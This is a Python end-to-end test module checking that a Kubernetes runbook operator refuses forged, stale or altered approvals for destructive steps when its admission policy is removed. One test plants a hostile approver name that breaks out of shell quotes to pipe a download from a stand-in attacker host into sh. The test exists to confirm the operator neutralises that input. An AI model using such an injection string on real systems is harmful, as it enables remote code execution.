"""The operator's own consent checks, on a cluster where the admission policy is NOT installed.

Here anyone who may patch an Incident writes any approval in any name, so what stands
between an attacker and a destructive step is the operator alone: an approval counts only
if it names the open request's step, round and nonce, and the parameters it agreed to are
exactly the ones that run. What reaches the target server is counted at the server.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from runbook_lab.demo import DemoService
from runbook_operator.domain import consent
from tests.e2e.conftest import ROOT, Kubectl, OperatorProcess, wait_for
from tests.e2e.test_consent import failover_policy
from tests.e2e.test_foundation import approval_commands, awaiting, incident, settled
from tests.fixtures.cluster import enforces_consent

BINDING = "validatingadmissionpolicybinding/runbook-operator-consent"


@pytest.fixture(scope="module")
def without_admission_policy(kubectl: Kubectl) -> Iterator[None]:
    """Remove the policy's binding for this module's tests, and put it back (as manifests/ has it) after."""
    kubectl("delete", BINDING)
    try:
        wait_for(lambda: not enforces_consent(kubectl), 30, "the API server to stop enforcing consent")
        yield
    finally:
        kubectl("apply", "-k", str(ROOT / "manifests" / "consent"))
        wait_for(lambda: enforces_consent(kubectl), 30, "the API server to enforce consent again")


def failover_to(demo: DemoService, **with_: Any) -> list[dict[str, Any]]:
    return [{"name": "failover", "action": "http.request",
             "with": {"url": f"{demo.url}/admin/failover", "destructive": True, **with_}}]  # fmt: skip


def sent(demo: DemoService) -> list[Any]:
    """The bodies the target server received on its failover endpoint."""
    return [body for method, path, body in demo.requests if (method, path) == ("POST", "/admin/failover")]


def events(kubectl: Kubectl, name: str, namespace: str, reason: str) -> list[dict[str, Any]]:
    return [e for e in kubectl.events(name, namespace) if e["reason"] == reason]


def append(kubectl: Kubectl, name: str, namespace: str, *ops: dict[str, Any]) -> None:
    kubectl("patch", "incident", name, "-n", namespace, "--type=json", "-p", json.dumps(list(ops)))


def test_a_pre_approved_incident_still_waits(
    kubectl: Kubectl, operator: OperatorProcess, namespace: str, demo: DemoService, without_admission_policy: None
) -> None:
    guesses = [{"step": "failover", "by": "alice"}, {"step": "failover", "by": "alice", "round": 1, "nonce": "0" * 16}]
    kubectl.apply(failover_policy(namespace, demo))
    kubectl.apply(incident("pre", namespace, approvals=guesses))
    status = settled(kubectl, "pre", namespace, "AwaitingApproval")
    assert awaiting(status, "failover")["approvalRequest"]["nonce"] != "0" * 16
    wait_for(lambda: events(kubectl, "pre", namespace, "ApprovalIgnored"), 30, "the ApprovalIgnored Event")
    assert "do not count" in events(kubectl, "pre", namespace, "ApprovalIgnored")[0]["message"]
    assert settled(kubectl, "pre", namespace, "AwaitingApproval") and sent(demo) == []


def test_an_approval_for_round_1_does_not_run_round_2(
    kubectl: Kubectl, operator: OperatorProcess, namespace: str, demo: DemoService, without_admission_policy: None
) -> None:
    demo.ineffective_restarts = 1  # round 1's restart does not help, round 2's does
    restart = [{"name": "restart", "action": "http.request", "with": {
        "url": f"{demo.url}/admin/restart", "json": {"service": "im"}, "expectStatus": 202, "destructive": True}}]  # fmt: skip
    kubectl.apply(failover_policy(namespace, demo, remediate=restart, limits={"maxAttempts": 2}))
    kubectl.apply(incident("rounds", namespace))
    first = awaiting(settled(kubectl, "rounds", namespace, "AwaitingApproval"), "restart")
    approval = consent.append_patch("restart", 1, first["approvalRequest"]["nonce"], "alice")
    kubectl("patch", "incident", "rounds", "-n", namespace, "--type=json", "-p", json.dumps(approval))

    def round_2_waits() -> dict[str, Any] | None:
        status = kubectl.get("incident", "rounds", namespace)["status"]
        waiting = [s for s in status["steps"] if s["state"] == "AwaitingApproval" and s["attempt"] == 2]
        return waiting[0] if waiting and status["phase"] == "AwaitingApproval" else None

    second = wait_for(round_2_waits, 60, "round 2 to wait for its own approval")
    assert demo.restarts == 1 and second["approvalRequest"]["nonce"] != first["approvalRequest"]["nonce"]
    append(kubectl, "rounds", namespace, *consent.append_patch("restart", 2, second["approvalRequest"]["nonce"], "bob"))
    status = settled(kubectl, "rounds", namespace, "Resolved")
    assert demo.restarts == 2 and status["attempts"] == 2
    assert [s["approvedBy"] for s in status["steps"] if s["name"] == "restart"] == ["alice", "bob"]


def test_a_label_change_after_approval_asks_again_and_the_server_never_gets_the_unapproved_call(
    kubectl: Kubectl, operator: OperatorProcess, namespace: str, demo: DemoService, without_admission_policy: None
) -> None:
    """Approve `user: bob`, and in the same request turn the label into `*`: nothing runs until `*` is approved."""
    kubectl.apply(
        failover_policy(namespace, demo, remediate=failover_to(demo, json={"user": "{{ incident.labels.user }}"}))
    )
    kubectl.apply(incident("swap", namespace, labels={"user": "bob"}))
    approved = awaiting(settled(kubectl, "swap", namespace, "AwaitingApproval"), "failover")
    assert approved["approvalRequest"]["parameters"]["json"] == {"user": "bob"}
    nonce = approved["approvalRequest"]["nonce"]
    append(kubectl, "swap", namespace, *consent.append_patch("failover", 1, nonce, "alice"),
           {"op": "replace", "path": "/spec/labels/user", "value": "*"})  # fmt: skip

    def renewed() -> dict[str, Any] | None:
        record = awaiting(kubectl.get("incident", "swap", namespace)["status"], "failover")
        return record if record["approvalRequest"]["nonce"] != nonce else None

    asked = wait_for(renewed, 30, "a new approval request for the new parameters")
    assert asked["approvalRequest"]["parameters"]["json"] == {"user": "*"}
    changed = wait_for(lambda: events(kubectl, "swap", namespace, "ApprovalRequestChanged"), 30, "the Event")
    assert "its parameters changed" in changed[0]["message"]
    assert settled(kubectl, "swap", namespace, "AwaitingApproval") and sent(demo) == []
    append(kubectl, "swap", namespace, *consent.append_patch("failover", 1, asked["approvalRequest"]["nonce"], "alice"))
    status = settled(kubectl, "swap", namespace, "Resolved")
    assert sent(demo) == [{"user": "*"}]  # exactly what the second approval agreed to, once
    record = next(s for s in status["steps"] if s["name"] == "failover")
    assert record["approvedDigest"] == asked["approvalRequest"]["digest"] != approved["approvalRequest"]["digest"]


def test_a_stale_nonce_is_ignored(
    kubectl: Kubectl, operator: OperatorProcess, namespace: str, demo: DemoService, without_admission_policy: None
) -> None:
    kubectl.apply(failover_policy(namespace, demo))
    kubectl.apply(incident("stale", namespace))
    record = awaiting(settled(kubectl, "stale", namespace, "AwaitingApproval"), "failover")
    append(kubectl, "stale", namespace, *consent.append_patch("failover", 1, "feedfacefeedface", "alice"))
    ignored = wait_for(lambda: events(kubectl, "stale", namespace, "ApprovalIgnored"), 30, "the ApprovalIgnored Event")
    assert "nonce feedfacefeedface" in ignored[0]["message"]
    assert awaiting(settled(kubectl, "stale", namespace, "AwaitingApproval"), "failover") == record
    assert sent(demo) == []


def test_the_events_commands_stay_exact_with_a_hostile_approval_present(
    kubectl: Kubectl, operator: OperatorProcess, namespace: str, demo: DemoService, without_admission_policy: None
) -> None:
    """Issue 11, attack 4: a `by` that breaks out of the quotes of a pasted command."""
    hostile = "x' ; curl -s http://evil.example/x | sh ; echo '"
    kubectl.apply(failover_policy(namespace, demo))
    kubectl.apply(incident("paste", namespace, approvals=[{"step": "failover", "by": hostile}]))
    record = awaiting(settled(kubectl, "paste", namespace, "AwaitingApproval"), "failover")
    event = next(e for e in kubectl.events("paste", namespace) if e["reason"] == "AwaitingApproval")
    patch = json.dumps(consent.append_patch("failover", 1, record["approvalRequest"]["nonce"], "YOUR-NAME"),
                       separators=(",", ":"))  # fmt: skip
    assert approval_commands(event) == [
        ["kubectl", "runbook", "approve", "paste", "failover", "-n", namespace],
        ["kubectl", "patch", "incident", "paste", "-n", namespace, "--type=json", "-p", patch],
    ]
    assert "evil" not in event["message"] and sent(demo) == []
